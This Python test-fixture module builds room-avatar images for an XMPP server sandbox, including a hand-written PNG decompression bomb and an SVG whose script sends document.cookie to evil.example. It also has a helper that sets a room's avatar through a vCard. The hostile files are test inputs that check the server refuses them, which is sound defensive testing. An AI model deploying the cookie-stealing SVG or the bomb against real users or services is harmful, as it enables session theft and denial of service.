"""Room avatars for the tests: images good and hostile, and setting a room's avatar as its owner.

Each image function returns the same bytes every call (built once, then cached):

- `good_png`: a 96x96 RGBA PNG, the avatar a room should have.
- `good_jpeg`: a 200x150 RGB JPEG, a good avatar in another format (and a "changed" avatar).
- `animated_gif`: a 3-frame 32x32 GIF: whether animation is kept, or one frame taken.
- `huge_png`: a valid PNG of more than 2,000,000 bytes (noise): refused for its size.
- `bomb_png`: a decompression bomb, about 110 KB that declare 30000x30000 pixels
  (900 megapixels): refused before its pixels are decoded.
- `svg_image`: an SVG with a <script> and an onload attribute: never served as an image.
- `corrupt_png`: a PNG cut short after 200 bytes, then garbage: fails to decode.

`set_room_avatar` sets a room's avatar the way its owner does on Prosody 13: a vcard-temp
vCard with a PHOTO, set on the room's bare JID (XEP-0054, XEP-0153; XEP-0486 then
announces its SHA-1 as muc#roominfo_avatarhash).
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import functools
import io
import random
import secrets
import struct
import zlib
from xml.etree import ElementTree as ET

from PIL import Image, ImageDraw
from slixmpp import JID, ClientXMPP
from slixmpp.exceptions import IqError

from sandbox.servers import SandboxServer

VCARD = "vcard-temp"
HUGE_SIZE = (1024, 768)  # RGB noise: 2.36 MB of pixels that do not compress
BOMB_SIDE = 30_000  # pixels wide and high, one bit each
SET_TIMEOUT = 30  # seconds for the server to accept a new avatar


def _encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


@functools.cache
def good_png() -> bytes:
    """A 96x96 RGBA PNG with a few shapes and colours, half-transparent in places."""
    image = Image.new("RGBA", (96, 96), (30, 90, 160, 255))
    draw = ImageDraw.Draw(image)
    draw.ellipse((12, 12, 84, 84), fill=(250, 200, 40, 255), outline=(0, 0, 0, 255), width=3)
    draw.rectangle((36, 36, 60, 60), fill=(200, 30, 60, 128))
    draw.polygon([(48, 4), (58, 24), (38, 24)], fill=(20, 180, 90, 255))
    draw.line((0, 95, 95, 0), fill=(255, 255, 255, 200), width=2)
    return _encoded(image, "PNG")


@functools.cache
def good_jpeg() -> bytes:
    """A 200x150 RGB JPEG: stripes and a circle."""
    image = Image.new("RGB", (200, 150), (240, 240, 230))
    draw = ImageDraw.Draw(image)
    for stripe in range(0, 200, 20):
        draw.rectangle((stripe, 0, stripe + 9, 149), fill=(stripe, 120, 255 - stripe))
    draw.ellipse((60, 35, 140, 115), fill=(220, 60, 30))
    return _encoded(image, "JPEG", quality=85)


@functools.cache
def animated_gif() -> bytes:
    """A 3-frame 32x32 GIF that loops: red, green, then blue, each with a white square."""
    frames = []
    for number, colour in enumerate(((255, 0, 0), (0, 255, 0), (0, 0, 255))):
        frame = Image.new("RGB", (32, 32), colour)
        ImageDraw.Draw(frame).rectangle((4 + 8 * number, 4, 11 + 8 * number, 11), fill="white")
        frames.append(frame.convert("P"))
    return _encoded(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=200, loop=0)


@functools.cache
def huge_png() -> bytes:
    """A valid 1024x768 RGB PNG of noise (seeded), so more than 2,000,000 bytes."""
    width, height = HUGE_SIZE
    noise = random.Random(486).randbytes(width * height * 3)  # noqa: S311 (test data)
    return _encoded(Image.frombytes("RGB", HUGE_SIZE, noise), "PNG", compress_level=1)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@functools.cache
def bomb_png() -> bytes:
    """A decompression bomb, written by hand (Pillow would need its pixels): a valid PNG,
    greyscale at 1 bit a pixel, 30000x30000 (900 megapixels) of zeros, about 110 KB; its
    scanlines inflate to 112.5 MB, and to 900 MB once decoded at a byte a pixel."""
    header = struct.pack(">IIBBBBB", BOMB_SIDE, BOMB_SIDE, 1, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = bytes(1 + BOMB_SIDE // 8)  # filter byte 0 (none), then 3750 bytes of 8 pixels
    data = b"".join(compressor.compress(row) for _ in range(BOMB_SIDE)) + compressor.flush()
    step = 65_536
    idats = b"".join(_chunk(b"IDAT", data[at : at + step]) for at in range(0, len(data), step))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + idats + _chunk(b"IEND", b"")


SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="96" height="96" onload="alert(document.cookie)">
  <script type="text/javascript">fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="96" height="96" fill="#c03"/>
</svg>
"""


def svg_image() -> bytes:
    """An SVG that attacks whoever shows it inline: a <script> and an onload attribute."""
    return SVG


@functools.cache
def corrupt_png() -> bytes:
    """The first 200 bytes of good_png(), then 300 bytes of (seeded) garbage."""
    return good_png()[:200] + random.Random(153).randbytes(300)  # noqa: S311 (test data)


def vcard_photo(photo: bytes, mime: str) -> ET.Element:
    """<vCard xmlns='vcard-temp'><PHOTO><TYPE>mime</TYPE><BINVAL>base64</BINVAL></PHOTO>."""
    vcard = ET.Element(f"{{{VCARD}}}vCard")
    element = ET.SubElement(vcard, f"{{{VCARD}}}PHOTO")
    ET.SubElement(element, f"{{{VCARD}}}TYPE").text = mime
    ET.SubElement(element, f"{{{VCARD}}}BINVAL").text = base64.b64encode(photo).decode("ascii")
    return vcard


async def set_room_avatar(client: ClientXMPP, room_jid: str, photo: bytes, mime: str) -> None:
    """Set the room's avatar as its owner does on Prosody 13: a vCard set on its bare JID.

    Args:
        client: a connected client whose account owns the room.
        room_jid: the room's bare JID.
        photo: the image's bytes.
        mime: its media type, e.g. "image/png".

    Raises:
        slixmpp.exceptions.IqError: the server refused (e.g. forbidden: not the owner).
        slixmpp.exceptions.IqTimeout: no answer within SET_TIMEOUT seconds.
    """
    iq = client.make_iq_set(vcard_photo(photo, mime), ito=room_jid)
    await iq.send(timeout=SET_TIMEOUT)


def room_with_avatar(
    server: SandboxServer, room_jid: str, photo: bytes | None, mime: str = "image/png"
) -> str | None:
    """Create room_jid (persistent, public) as a new owner account would, and set its avatar
    to photo (None: leave it without one). Returns the hash the room's disco#info announces
    then, read with slixmpp's own parsing (Prosody 0.12 has no room avatars: it refuses the
    set, and announces none)."""
    owner, password = f"avatar-owner-{secrets.token_hex(4)}", secrets.token_hex(8)
    jid = server.register(owner, password)
    return asyncio.run(_create_with_avatar(server, jid, password, room_jid, photo, mime))


async def _create_with_avatar(
    server: SandboxServer, jid: str, password: str, room: str, photo: bytes | None, mime: str
) -> str | None:
    client = ClientXMPP(jid, password)
    client.ca_certs = server.ca_file
    for plugin in ("xep_0004", "xep_0030", "xep_0045", "xep_0128"):
        client.register_plugin(plugin)
    client.connect("127.0.0.1", server.port)
    try:
        await client.wait_until("session_start", SET_TIMEOUT)
        muc = client.plugin["xep_0045"]
        await muc.join_muc_wait(JID(room), "owner", maxstanzas=0, timeout=SET_TIMEOUT)
        if photo is not None:
            with contextlib.suppress(IqError):
                await set_room_avatar(client, room, photo, mime)
        info = await client.plugin["xep_0030"].get_info(jid=JID(room), timeout=SET_TIMEOUT)
        values = info["disco_info"]["form"].get_values().get("muc#roominfo_avatarhash") or []
        announced = [values] if isinstance(values, str) else list(values)
        return next((value for value in announced if value), None)
    finally:
        await client.disconnect(wait=1.0)
